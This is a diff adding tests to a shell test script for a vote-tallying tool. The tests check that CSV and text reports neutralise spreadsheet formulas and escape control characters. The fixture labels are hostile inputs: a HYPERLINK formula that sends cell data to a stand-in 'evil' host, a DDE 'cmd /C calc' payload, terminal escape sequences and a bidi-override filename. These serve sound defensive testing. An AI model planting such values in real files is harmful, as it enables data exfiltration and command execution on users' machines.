@@ -83,6 +83,42 @@ expect "replay csv row of a broken proposal" 65 "" -- "$gt" replay "$tmp/created
 if sed -n 2p "$tmp/rows.csv" | grep -q '^0xab,,'; then echo "ok replay csv error row carries the id"; pass=$((pass+1))
 else echo "FAIL replay csv error row: $(cat "$tmp/rows.csv")"; fail=$((fail+1)); fi
 
+# ---- shown text and CSV cells (docs/formats.md#csv-cells) -----------------
+python3 - "$tmp/labels.json" <<'PY'
+import json, sys
+labels = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '-5',
+          '@SUM(A1:A9)', '\tTAB', '\r=1', '\x1b]0;pwned\x07', '\u202eexe.txt', 'a,b']
+votes = [{"id": "v%d" % i, "voter": "0x%040x" % (i + 1), "created": 1, "choice": i + 1,
+          "vp": i + 1} for i in range(len(labels))]
+json.dump({"proposal": {"id": "0x01", "space": {"id": "=cmd"}, "type": "single-choice",
+           "choices": labels}, "votes": votes}, open(sys.argv[1], "w"))
+PY
+"$gt" run "$tmp/labels.json" --format csv --schemes token > "$tmp/labels.csv"
+cat > "$tmp/labels.want" <<'CSV'
+scheme,choice,label,score,share,winner
+token,1,"'=HYPERLINK(""http://evil/?""&A1,""x"")",1,0.018181818181818181,0
+token,2,'+cmd|' /C calc'!A0,2,0.036363636363636363,0
+token,3,'-2+3,3,0.054545454545454545,0
+token,4,-5,4,0.072727272727272727,0
+token,5,'@SUM(A1:A9),5,0.090909090909090909,0
+token,6,\x09TAB,6,0.10909090909090909,0
+token,7,\x0D=1,7,0.127272727272727272,0
+token,8,\x1B]0;pwned\x07,8,0.145454545454545454,0
+token,9,\u202Eexe.txt,9,0.163636363636363636,0
+token,10,"a,b",10,0.181818181818181818,1
+CSV
+if cmp -s "$tmp/labels.csv" "$tmp/labels.want"; then echo "ok CSV cells: formulas neutralised, controls escaped (exact bytes)"; pass=$((pass+1))
+else echo "FAIL CSV cells:"; diff "$tmp/labels.want" "$tmp/labels.csv" | head; fail=$((fail+1)); fi
+"$gt" replay "$tmp/labels.json" --format csv > "$tmp/replay.csv"
+if sed -n 2p "$tmp/replay.csv" | grep -q "^0x01,'=cmd,single-choice,"; then echo "ok replay CSV: a space '=cmd' is neutralised"; pass=$((pass+1))
+else echo "FAIL replay CSV: $(sed -n 2p "$tmp/replay.csv")"; fail=$((fail+1)); fi
+"$gt" run "$tmp/labels.json" --format text > "$tmp/labels.txt"
+if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$tmp/labels.txt" || grep -q "$(printf '\342\200\256')" "$tmp/labels.txt"; then
+  echo "FAIL text report holds a control byte or a bidi control"; fail=$((fail+1))
+else echo "ok text report: no control byte, no bidi control"; pass=$((pass+1)); fi
+printf '{"proposal":{"id":"0x01","type":"single-choice","choices":["a"]},"votes":[{"id":"\\u001b[31mX\\u202e","voter":"0x\\u001b]0;t\\u0007","choice":1,"vp":1}]}' > "$tmp/badvote.json"
+expect "error message: voter and vote id escaped" 65 'voter "0x\\x1B]0;t\\x07" is not an address .*(vote 0 id \\x1B\[31mX\\u202E,' -- "$gt" run "$tmp/badvote.json"
+
 # ---- fixture references --------------------------------------------------
 mkdir "$tmp/fx"; mkfifo "$tmp/fx/fifo"
 printf '{"input": "fifo", "expect": {}}' > "$tmp/fx/fifo.json"
